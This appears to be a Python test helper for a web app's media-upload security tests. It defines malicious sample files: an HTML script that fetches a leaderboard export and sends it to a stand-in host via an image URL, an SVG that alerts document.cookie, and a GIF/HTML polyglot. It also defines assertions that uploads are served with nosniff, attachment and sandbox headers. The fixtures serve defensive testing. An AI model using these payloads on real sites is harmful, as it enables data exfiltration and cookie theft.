"""What the media security tests share: files with active content or none, and what /media/ must answer."""

import io

from PIL import Image

HTML = (
    b"<!DOCTYPE html><html><body><script>"
    b"fetch('/leaderboard/export.csv').then(r => r.text()).then(t => new Image().src = '//x/?' + t)"
    b"</script></body></html>\n"
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><circle r="4"/></svg>'
MP3 = b"ID3\x03\x00\x00\x00\x00\x00\x0a" + b"\x00" * 10 + b"\xff\xfb\x90\x64" + b"\x00" * 400


def raster(kind: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buffer, format=kind)
    return buffer.getvalue()


GIF = raster("GIF")
PNG = raster("PNG")
# A real GIF that is also a web page: a browser that sniffed it would run the script.
POLYGLOT = GIF + b"<html><script>alert(document.domain)</script></html>"


def assert_inline(response, content_type: str) -> None:
    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert not response.get("Content-Disposition", "inline").startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"


def assert_download(response) -> None:
    """Never a page of this site: downloaded, sandboxed, not sniffed, not HTML or SVG."""
    assert response.status_code == 200
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment")
    assert response["Content-Security-Policy"] == "sandbox"
    assert response["X-Content-Type-Options"] == "nosniff"
